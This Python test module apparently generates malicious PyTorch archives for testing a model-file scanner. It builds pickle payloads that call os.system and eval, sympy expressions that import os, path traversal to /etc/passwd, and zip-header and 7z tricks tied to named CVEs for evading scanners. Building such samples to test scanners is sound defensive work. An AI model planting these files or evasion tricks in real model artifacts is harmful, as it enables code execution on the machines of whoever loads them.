"""Torch archives of every age that act on loading, or that show a scanner other bytes than they show torch."""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import tempfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

from tests.corpus import CANARY, COMMAND, Sample
from tests.corpus.assembler import EXEC, PAYLOAD, SYSTEM, built, call, made, named, pickled, push
from tests.corpus.containers import members, seven_zip, zipped

_OLD_MAGIC = 0x1950A86A20F9469CFC6C


def _written(save: Callable[[Path], object]) -> bytes:
    with tempfile.TemporaryDirectory() as folder, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        path = Path(folder) / "model.pt"
        save(path)
        return path.read_bytes()


@cache
def checkpoint() -> bytes:
    import torch

    return _written(lambda path: torch.save({"w": torch.arange(8.0), "b": torch.ones(2)}, path))


@cache
def single() -> bytes:
    """One tensor, so that a state dict written by hand can use every storage there is."""
    import torch

    return _written(lambda path: torch.save({"w": torch.arange(8.0)}, path))


@cache
def legacy() -> bytes:
    import torch

    return _written(lambda path: torch.save({"w": torch.arange(8.0)}, path, _use_new_zipfile_serialization=False))


@cache
def script() -> bytes:
    import torch
    from torch import nn

    return _written(
        lambda path: torch.jit.save(torch.jit.script(nn.Sequential(nn.Linear(4, 4), nn.ReLU()).eval()), path)
    )


@cache
def self_saving_script() -> bytes:
    """A module whose `__setstate__` writes a file: `torch.jit.load` runs it."""
    import torch

    from tests.corpus.script_modules import Saving

    return _written(lambda path: torch.jit.save(torch.jit.script(Saving(str(CANARY))), path))


@cache
def program() -> bytes:
    import torch
    from torch import nn

    batch = torch.export.Dim("batch", min=1, max=64)
    exported = torch.export.export(
        nn.Sequential(nn.Linear(4, 4), nn.ReLU()).eval(), (torch.randn(2, 4),), dynamic_shapes=({0: batch},)
    )
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.pt2"
        torch.export.save(exported, path)
        return path.read_bytes()


def changed(content: bytes, change: Callable[[dict[str, bytes]], object], method: int = zipfile.ZIP_STORED) -> bytes:
    found = members(content)
    change(found)
    return zipped(found, method)


def replaced(content: bytes, ending: str, data: bytes) -> bytes:
    """The archive with another content for the member whose name ends so, or with one more beside the first."""

    def change(found: dict[str, bytes]) -> None:
        root = next(iter(found)).split("/")[0]
        name = next((name for name in found if name.endswith("/" + ending)), f"{root}/{ending}")
        found[name] = data

    return changed(content, change)


def in_state(body: bytes, *, protocol: int = 2) -> bytes:
    return replaced(single(), "data.pkl", pickled(body, protocol))


def storage(key: str = "0", kind: str = "FloatStorage", count: int = 8, where: Any = "cpu") -> bytes:
    return push(("storage", named("torch", kind), key, where, count)) + b"Q"


def tensor(source: bytes, offset: int = 0, size: tuple[int, ...] = (8,), stride: tuple[int, ...] = (1,)) -> bytes:
    return call(
        named("torch._utils", "_rebuild_tensor_v2"),
        source,
        offset,
        size,
        stride,
        False,
        call(named("collections", "OrderedDict")),
    )


def samples() -> Iterator[Sample]:
    for name, make, why, loader in (*_archives(), *_states(), *_legacies(), *_scripts(), *_programs()):
        yield Sample(
            name=f"torch: {name}",
            attack="torch archive",
            why=why,
            make=make,
            filename="model.pt2" if "pt2" in name else "model.pt",
            loader=loader,
        )


_Rows = Iterator[tuple[str, Callable[[], bytes], str, str | None]]


def _archives() -> _Rows:
    def duplicate(first: bool) -> bytes:
        found = list(members(checkpoint()).items())
        evil = (next(name for name, _ in found if name.endswith("data.pkl")), PAYLOAD)
        return zipped([evil, *found] if first else [*found, evil])

    def flipped(field: int, value: int, where: str, only: str = "data.pkl") -> bytes:
        """One field of the local or the central header of the member that ends so, changed."""
        content = bytearray(in_state(SYSTEM))
        signature = b"PK\x03\x04" if where == "local" else b"PK\x01\x02"
        at = -1
        while True:
            at = content.index(signature, at + 1)
            length = struct.unpack_from("<H", content, at + (26 if where == "local" else 28))[0]
            start = at + (30 if where == "local" else 46)
            if bytes(content[start : start + length]).endswith(only.encode()):
                break
        struct.pack_into("<H", content, at + field, value)
        return bytes(content)

    def crc() -> bytes:
        content = bytearray(in_state(SYSTEM))
        at = content.index(b"PK\x01\x02")
        while b"data.pkl" not in content[at : at + 80]:
            at = content.index(b"PK\x01\x02", at + 1)
        struct.pack_into("<L", content, at + 16, 0xDEADBEEF)
        return bytes(content)

    def local_name(evil: bytes) -> bytes:
        content = in_state(SYSTEM)
        at = content.index(b"data.pkl")
        return content[:at] + evil + content[at + 8 :]

    def central_name(evil: bytes) -> bytes:
        content = in_state(SYSTEM)
        at = content.rindex(b"data.pkl")
        return content[:at] + evil + content[at + 8 :]

    def renamed(name: str) -> bytes:
        def change(found: dict[str, bytes]) -> None:
            old = next(one for one in found if one.endswith("data.pkl"))
            found[old.replace("data.pkl", name)] = PAYLOAD

        return changed(checkpoint(), change)

    yield "payload in data.pkl", lambda: in_state(SYSTEM), "the plain attack", "torch"
    yield (
        "payload in data.pkl, deflated",
        lambda: changed(in_state(SYSTEM), lambda found: None, zipfile.ZIP_DEFLATED),
        "deflated members",
        "torch",
    )
    yield (
        "payload beside the weights",
        lambda: in_state(push({"w": tensor(storage())}) + EXEC + b"0"),
        "the state dict is real, the payload extra",
        "torch",
    )
    yield (
        "payload, then broken",
        lambda: replaced(checkpoint(), "data.pkl", b"\x80\x02" + SYSTEM + b"\xff"),
        "nullifAI inside the zip",
        "torch",
    )
    yield "second data.pkl first", lambda: duplicate(first=True), "two members of one name: which is read?", None
    yield "second data.pkl last", lambda: duplicate(first=False), "two members of one name: which is read?", None
    yield "data.pkl in capitals", lambda: renamed("DATA.PKL"), "miniz compares names without case", None
    yield "data.pkl under another extension", lambda: renamed("data.bin"), "CVE-2025-1889: pickle by another name", None
    yield "data.pkl with a trailing blank", lambda: renamed("data.pkl "), "names that some trim", None
    yield (
        "data.pkl behind a NUL",
        lambda: zipped({**members(checkpoint()), "archive/x\x00/data.pkl": PAYLOAD}),
        "names that some cut",
        None,
    )
    yield (
        "extra pickle in the archive",
        lambda: replaced(checkpoint(), "extra/data.pkl", PAYLOAD),
        "a second pickle that torch does not read",
        None,
    )
    yield (
        "two roots",
        lambda: zipped({**members(checkpoint()), "other/data.pkl": PAYLOAD, "other/version": b"3\n"}),
        "which folder is the model?",
        None,
    )
    yield (
        "flag bit: encrypted",
        lambda: flipped(8, 0x1, "central"),
        "CVE-2025-1945: the scanner fails, older torch does not look",
        None,
    )
    yield "flag bit: local encrypted", lambda: flipped(6, 0x1, "local"), "CVE-2025-1945", None
    yield "flag bit: patched data", lambda: flipped(8, 0x20, "central"), "CVE-2025-1945", None
    yield "flag bit: strong encryption", lambda: flipped(8, 0x40, "central"), "CVE-2025-1945", None
    yield "flag bit: data descriptor", lambda: flipped(6, 0x8, "local"), "a descriptor that is not there", None
    yield "method that nobody has", lambda: flipped(10, 99, "central"), "the scanner cannot read the member", None
    yield "version needed of 63", lambda: flipped(6, 630, "central"), "the scanner refuses the archive", "torch"
    yield "checksum lies", crc, "CVE-2025-10156: zipfile stops at a wrong CRC, torch does not", "torch"
    yield (
        "local name differs",
        lambda: local_name(b"data.txt"),
        "CVE-2025-1944: the scanner fails on the mismatch",
        "torch",
    )
    yield "local name in capitals", lambda: local_name(b"DATA.pkl"), "CVE-2025-1944", "torch"
    yield "central name differs", lambda: central_name(b"data.txt"), "the other way round", None
    yield (
        "comment that holds an archive",
        lambda: _comment(checkpoint(), in_state(SYSTEM)),
        "whose end record is the end?",
        None,
    )
    yield (
        "archive behind a pickle",
        lambda: PAYLOAD + checkpoint(),
        "torch finds the zip only at the start, pickle.load reads the pickle",
        "pickle",
    )
    yield "pickle behind an archive", lambda: checkpoint() + PAYLOAD, "bytes that belong to nothing", None
    yield "archive behind a legacy model", lambda: legacy() + checkpoint(), "two models in one file", None
    yield "archive behind an archive", lambda: in_state(SYSTEM) + checkpoint(), "two archives in one file", None
    yield "gap between members", lambda: _gapped(checkpoint(), PAYLOAD), "bytes between the members", None
    yield (
        "7z around the archive",
        lambda: seven_zip("model.pt", in_state(SYSTEM)),
        "nullifAI: the scanner knows no 7z",
        None,
    )
    yield "7z around a pickle", lambda: seven_zip("data.pkl", PAYLOAD), "nullifAI: the scanner knows no 7z", None
    yield (
        "7z broken in its header",
        lambda: seven_zip("model.pt", in_state(SYSTEM))[:-9],
        "a 7z that does not open",
        None,
    )
    yield (
        "byteorder of choice",
        lambda: replaced(checkpoint(), "byteorder", b"middle"),
        "a member that says nonsense",
        None,
    )
    yield (
        "native code in the archive",
        lambda: replaced(checkpoint(), "lib.so", b"\x7fELF\x02\x01\x01" + bytes(57)),
        "nothing torch wrote",
        None,
    )
    yield (
        "script in the archive",
        lambda: replaced(checkpoint(), "hook.py", COMMAND.encode()),
        "nothing torch wrote",
        None,
    )
    yield (
        "member that climbs out",
        lambda: replaced(checkpoint(), "../../../x.pkl", PAYLOAD),
        "a path out of the archive",
        None,
    )


def _comment(content: bytes, more: bytes) -> bytes:
    more = more[:60_000]
    return content[:-2] + struct.pack("<H", len(more)) + more


def _gapped(content: bytes, junk: bytes) -> bytes:
    """The archive with bytes before its central directory, offsets put right where there is no zip64."""
    directory = zipped(members(content))
    at = directory.index(b"PK\x01\x02")
    end = directory.rindex(b"PK\x05\x06")
    patched = bytearray(directory[:at] + junk + directory[at:])
    struct.pack_into("<L", patched, end + len(junk) + 16, at + len(junk))
    return bytes(patched)


def _states() -> _Rows:
    yield (
        "storage of another size",
        lambda: in_state(tensor(storage(count=1 << 40), size=(1 << 40,))),
        "CVE-2026-24747: more elements than the archive has",
        None,
    )
    yield (
        "storage that is not there",
        lambda: in_state(tensor(storage("77"))),
        "a record that is not in the archive",
        None,
    )
    yield (
        "storage outside the archive",
        lambda: in_state(tensor(storage("../../../../etc/passwd"))),
        "a key that is a path",
        None,
    )
    yield (
        "storage of a foreign class",
        lambda: in_state(push(("storage", named("os", "system"), "0", "cpu", 8)) + b"Q"),
        "the class of the storage is a function",
        None,
    )
    yield (
        "storage on a device of choice",
        lambda: in_state(tensor(storage(where={"x": 1}))),
        "a device that is no text",
        None,
    )
    yield (
        "persistent id of another kind",
        lambda: in_state(push(("module", named("torch.nn", "Linear"), "/etc/passwd", "import os")) + b"Q"),
        "legacy loaders read source by name",
        None,
    )
    yield (
        "tensor beyond its storage",
        lambda: in_state(tensor(storage(), offset=1 << 30)),
        "an offset outside the storage",
        None,
    )
    yield (
        "tensor with a wild stride",
        lambda: in_state(tensor(storage(), size=(2, 2), stride=(1 << 40, 1))),
        "strides outside the storage",
        None,
    )
    yield (
        "tensor with a negative stride",
        lambda: in_state(tensor(storage(), size=(4,), stride=(-1,))),
        "before the storage",
        None,
    )
    yield (
        "SETITEM on a tensor",
        lambda: in_state(tensor(storage()) + push(0) + push(1.0) + b"s"),
        "CVE-2026-24747: SETITEM on what is no dictionary",
        None,
    )
    yield (
        "SETITEMS on a tensor",
        lambda: in_state(tensor(storage()) + b"(" + push(0) + push(1.0) + b"u"),
        "CVE-2026-24747",
        None,
    )
    yield "APPEND to a tensor", lambda: in_state(tensor(storage()) + push(1) + b"a"), "CVE-2026-24747 and kin", None
    yield (
        "BUILD on a tensor",
        lambda: in_state(built(tensor(storage()), {"_backward_hooks": named("os", "system")})),
        "state for a tensor",
        None,
    )
    yield (
        "module of unknown class",
        lambda: in_state(
            built(made(named("my_models.net", "Net")), {"training": False}),
        ),
        "a class that the loader must import",
        None,
    )
    yield (
        "fx graph module",
        lambda: in_state(
            call(
                named("torch.fx.graph_module", "reduce_graph_module"),
                {"_code": f"import os\nos.system({COMMAND!r})\ndef forward(self, x): return x"},
                "import os",
            )
        ),
        "torch.fx compiles and runs _code",
        None,
    )
    yield (
        "package importer",
        lambda: in_state(call(named("torch.package.package_importer", "PackageImporter"), "/tmp/x")),
        "torch.package imports what it holds",
        None,
    )
    yield (
        "numpy scalar inside",
        lambda: in_state(
            call(named("numpy.core.multiarray", "scalar"), call(named("numpy", "dtype"), "O8", False, True), SYSTEM)
        ),
        "an object scalar",
        "torch",
    )
    yield (
        "load from bytes",
        lambda: in_state(call(named("torch.storage", "_load_from_bytes"), bytearray(in_state(SYSTEM)))),
        "a file in the file, loaded without weights_only",
        "torch",
    )
    yield (
        "quantised tensor with wrong arguments",
        lambda: in_state(
            call(named("torch._utils", "_rebuild_qtensor"), storage(), 0, (1 << 50,), (1,), (1,), False, None)
        ),
        "malformed",
        None,
    )
    yield (
        "sparse tensor with wild indices",
        lambda: in_state(
            call(
                named("torch._utils", "_rebuild_sparse_tensor"),
                named("torch", "sparse_coo"),
                (tensor(storage()), tensor(storage()), (1,)),
            )
        ),
        "CVE-2025: indices outside the shape",
        None,
    )
    yield (
        "tensor from a numpy object",
        lambda: in_state(call(named("torch._utils", "_rebuild_device_tensor_from_numpy"), SYSTEM, "f", "cpu", False)),
        "a helper that takes anything",
        "torch",
    )
    yield (
        "wrapper subclass",
        lambda: in_state(
            call(
                named("torch._utils", "_rebuild_wrapper_subclass"),
                named("builtins", "eval"),
                "f",
                (1,),
                (1,),
                0,
                None,
                "cpu",
                False,
            )
        ),
        "a helper that takes a class",
        None,
    )
    yield (
        "tensor from a type",
        lambda: in_state(
            call(
                named("torch._tensor", "_rebuild_from_type_v2"),
                named("os", "system"),
                named("torch", "Tensor"),
                (COMMAND,),
                {},
            )
        ),
        "a helper that calls its first argument",
        "torch",
    )
    yield (
        "size bomb",
        lambda: in_state(
            call(
                named("torch._utils", "_rebuild_meta_tensor_no_storage"),
                named("torch", "float32"),
                (1 << 62, 1 << 62),
                (1, 1),
                False,
            )
        ),
        "a size that overflows",
        None,
    )


def _legacies() -> _Rows:
    def old(body: bytes, keys: bytes = b"") -> bytes:
        head = (
            pickle.dumps(_OLD_MAGIC, 2)
            + pickle.dumps(1001, 2)
            + pickle.dumps(
                {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2
            )
        )
        return head + body + keys

    yield (
        "legacy, payload as the model",
        lambda: old(PAYLOAD, pickle.dumps([], 2)),
        "the fourth pickle of the old format",
        "torch",
    )
    yield "legacy, payload as the magic", lambda: PAYLOAD + legacy(), "the first pickle of the old format", "torch"
    yield (
        "legacy, payload as the sizes",
        lambda: pickle.dumps(_OLD_MAGIC, 2) + pickle.dumps(1001, 2) + PAYLOAD,
        "the third pickle of the old format",
        "torch",
    )
    yield (
        "legacy, payload as the keys",
        lambda: old(pickle.dumps({}, 2), PAYLOAD),
        "the fifth pickle of the old format",
        "torch",
    )
    yield "legacy, payload where the tensors are", lambda: legacy() + PAYLOAD, "behind the storages", None
    yield (
        "legacy, magic through eval",
        lambda: (
            pickled(call(named("builtins", "eval"), f"[open({str(CANARY)!r}, 'w'), {_OLD_MAGIC}][1]"))
            + legacy()[len(pickle.dumps(_OLD_MAGIC, 2)) :]
        ),
        "GHSA: the magic number computed by a call, so that a scanner sees no magic",
        "torch",
    )
    yield (
        "legacy, another magic",
        lambda: pickle.dumps(_OLD_MAGIC + 1, 2) + legacy()[len(pickle.dumps(_OLD_MAGIC, 2)) :],
        "nothing torch wrote",
        None,
    )
    yield "legacy, storage longer than the file", lambda: legacy()[:-8], "a cut storage", None
    yield (
        "legacy tar, payload in pickle",
        lambda: _tar(
            {
                "sys_info": pickle.dumps({"little_endian": True}, 2),
                "pickle": PAYLOAD,
                "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
                "tensors": pickle.dumps(0, 2),
            }
        ),
        "CVE-2025-32434: the tar of torch 0.1",
        "torch",
    )
    yield (
        "legacy tar, payload in storages",
        lambda: _tar(
            {
                "sys_info": pickle.dumps({}, 2),
                "pickle": pickle.dumps({}, 2),
                "storages": PAYLOAD,
                "tensors": pickle.dumps(0, 2),
            }
        ),
        "CVE-2025-32434",
        "torch",
    )
    yield (
        "legacy tar, payload in tensors",
        lambda: _tar(
            {
                "sys_info": pickle.dumps({}, 2),
                "pickle": pickle.dumps({}, 2),
                "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
                "tensors": PAYLOAD,
            }
        ),
        "CVE-2025-32434",
        "torch",
    )
    yield (
        "legacy tar, payload in sys_info",
        lambda: _tar(
            {
                "sys_info": PAYLOAD,
                "pickle": pickle.dumps({}, 2),
                "storages": pickle.dumps(0, 2),
                "tensors": pickle.dumps(0, 2),
            }
        ),
        "a member some forget",
        None,
    )


def _tar(found: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in found.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return buffer.getvalue()


def _scripts() -> _Rows:
    def with_line(line: str) -> bytes:
        def change(found: dict[str, bytes]) -> None:
            # torch renames what it compiles a second time in one process: container/___torch_mangle_5.py
            name = next(name for name in found if "/container" in name and name.endswith(".py"))
            if b"    return " not in found[name]:
                raise ValueError("the script has another shape by now")
            found[name] = found[name].replace(b"    return ", f"    {line}\n    return ".encode(), 1)

        return changed(script(), change)

    yield (
        "script that saves itself",
        self_saving_script,
        "TorchScript's torch.save in __setstate__: torch.jit.load writes the file",
        "jit",
    )
    for number, (line, why) in enumerate(
        (
            (f'torch.save(input, "{CANARY}")', "aten::save writes a file"),
            (f'x = torch.from_file("{CANARY}", True, 4)', "aten::from_file maps a file"),
            ('x = ops.image.read_file("/etc/passwd")', "torchvision reads a file"),
            ('x = ops.image.write_file("/tmp/x", input)', "torchvision writes a file"),
            ('x = ops.evil.run("id")', "an operator of a library of the attacker's"),
            ("x = ops.prim.PythonOp(input)", "a Python operator"),
            ('x = ops.torchaudio.sox_io_load_audio_file("/etc/passwd")', "torchaudio reads a file"),
            ('x = ops.c10d.broadcast_("x")', "the network"),
            ('x = ops.aten.to_here("x")', "the network"),
            ('x = __torch__.torch.classes.dist_rpc.WorkerInfo("x", 0)', "a native class"),
            ("import os", "an import"),
        )
    ):
        yield f"script line {number}", lambda line=line: with_line(line), why, None
    yield (
        "script with a pickle in constants",
        lambda: replaced(script(), "constants.pkl", PAYLOAD),
        "constants.pkl is a pickle too",
        None,
    )
    yield (
        "script with a payload in data.pkl",
        lambda: replaced(script(), "data.pkl", PAYLOAD),
        "data.pkl of a script, read by torch.load",
        None,
    )
    yield (
        "script with a payload in debug_pkl",
        lambda: replaced(script(), "code/__torch__.py.debug_pkl", PAYLOAD),
        "debug files are pickles",
        None,
    )
    yield (
        "script with bytecode",
        lambda: replaced(script(), "bytecode.pkl", PAYLOAD),
        "the mobile interpreter's file",
        None,
    )
    yield (
        "script with code nobody compiled",
        lambda: replaced(script(), "code/evil.py", b"import os\nos.system('id')\n"),
        "Python beside TorchScript",
        None,
    )


def _programs() -> _Rows:
    def with_model(change: Callable[[dict[str, Any]], object]) -> bytes:
        def rewrite(found: dict[str, bytes]) -> None:
            name = next(name for name in found if name.endswith("models/model.json"))
            model = json.loads(found[name])
            change(model)
            found[name] = json.dumps(model).encode()

        return changed(program(), rewrite)

    def expression(text: str) -> bytes:
        def change(model: dict[str, Any]) -> None:
            values = model["graph_module"]["graph"]["tensor_values"].values()
            next(side for meta in values for side in meta["sizes"] if "as_expr" in side)["as_expr"]["expr_str"] = text

        return with_model(change)

    def node(**fields: Any) -> bytes:
        return with_model(lambda model: model["graph_module"]["graph"]["nodes"][0].update(**fields))

    def config(change: Callable[[dict[str, Any]], object]) -> bytes:
        def rewrite(found: dict[str, bytes]) -> None:
            name = next(name for name in found if name.endswith("model_weights_config.json"))
            read = json.loads(found[name])
            change(read)
            found[name] = json.dumps(read).encode()

        return changed(program(), rewrite)

    def first(read: dict[str, Any]) -> dict[str, Any]:
        entry: dict[str, Any] = next(iter(read["config"].values()))
        return entry

    opener = f"open({str(CANARY)!r}, 'w')"
    yield (
        "pt2: expression that opens a file",
        lambda: expression(opener),
        "expr_str is evaluated by sympy: no pickle needed",
        "export",
    )
    yield (
        "pt2: expression that imports",
        lambda: expression(f"__import__('os').system('{COMMAND}')"),
        "expr_str is evaluated by sympy",
        "export",
    )
    yield (
        "pt2: expression behind arithmetic",
        lambda: expression(f"Symbol('s0', integer=bool({opener}))"),
        "an expression inside an expression",
        "export",
    )
    yield "pt2: expression of powers", lambda: expression("9**9**9**9"), "a number that never ends", None
    yield "pt2: expression with attributes", lambda: expression("Symbol('s0').__class__.__mro__"), "attributes", None
    yield "pt2: expression with a lambda", lambda: expression("(lambda: 1)()"), "a function", None
    yield (
        "pt2: guard that acts",
        lambda: with_model(lambda model: model.update(guards_code=[opener])),
        "guards are code",
        None,
    )
    yield (
        "pt2: target that is a module's module",
        lambda: node(target="torch.os.system"),
        "targets are looked up attribute by attribute",
        None,
    )
    yield (
        "pt2: target that reads files",
        lambda: node(target="torch.ops.aten.from_file.default"),
        "an operator that maps a file",
        None,
    )
    yield (
        "pt2: target that loads native code",
        lambda: node(target="torch.ops.load_library.x"),
        "an operator that loads a library",
        None,
    )
    yield "pt2: target that evaluates", lambda: node(target="_operator.call"), "operator.call", None
    yield "pt2: target in builtins", lambda: node(target="builtins.eval"), "eval", None
    yield (
        "pt2: field nobody knows",
        lambda: with_model(lambda model: model.update(hooks="import os")),
        "not in the schema",
        None,
    )
    yield (
        "pt2: weights that are pickled",
        lambda: _pickled_weights(),
        "use_pickle sends a member to torch.load without weights_only",
        "export",
    )
    yield (
        "pt2: weights elsewhere",
        lambda: config(lambda read: first(read).update(path_name="../../../etc/passwd")),
        "a path out of the archive",
        None,
    )
    yield (
        "pt2: weights longer than they are",
        lambda: config(lambda read: first(read)["tensor_meta"]["sizes"].append({"as_int": 1 << 40})),
        "sizes that lie",
        None,
    )
    yield (
        "pt2: sample inputs that act",
        lambda: replaced(
            program(),
            "data/sample_inputs/model.pt",
            zipped({"archive/data.pkl": PAYLOAD, "archive/version": b"3\n", "archive/byteorder": b"little"}),
        ),
        "sample inputs are a torch archive",
        None,
    )
    yield (
        "pt2: shared object",
        lambda: replaced(program(), "data/aotinductor/model/model.so", b"\x7fELF\x02\x01\x01" + bytes(57)),
        "native code that the loader opens",
        None,
    )
    yield (
        "pt2: shared object by another name",
        lambda: replaced(program(), "extra/readme.txt", b"\x7fELF\x02\x01\x01" + bytes(57)),
        "native code that is no text",
        None,
    )
    yield (
        "pt2: source to compile",
        lambda: replaced(program(), "data/aotinductor/model/wrapper.cpp", b"int main() { return 0; }"),
        "source for a compiler",
        None,
    )
    yield (
        "pt2: script object",
        lambda: replaced(program(), "data/constants/custom_obj_0", PAYLOAD),
        "script objects are pickled",
        None,
    )
    yield (
        "pt2: old serialised program",
        lambda: zipped(
            {
                "version": b"8.8",
                "serialized_exported_program.json": b"{}",
                "serialized_state_dict.pt": PAYLOAD,
                "serialized_constants.pt": PAYLOAD,
            }
        ),
        "the format before 2.8: the weights are torch files",
        None,
    )


def _pickled_weights() -> bytes:
    evil = zipped({"archive/data.pkl": PAYLOAD, "archive/version": b"3\n", "archive/byteorder": b"little"})

    def rewrite(found: dict[str, bytes]) -> None:
        name = next(name for name in found if name.endswith("model_weights_config.json"))
        read = json.loads(found[name])
        entry = next(iter(read["config"].values()))
        entry["use_pickle"] = True
        member = next(one for one in found if one.endswith("data/weights/" + entry["path_name"]))
        found[member] = evil
        found[name] = json.dumps(read).encode()

    return changed(program(), rewrite)
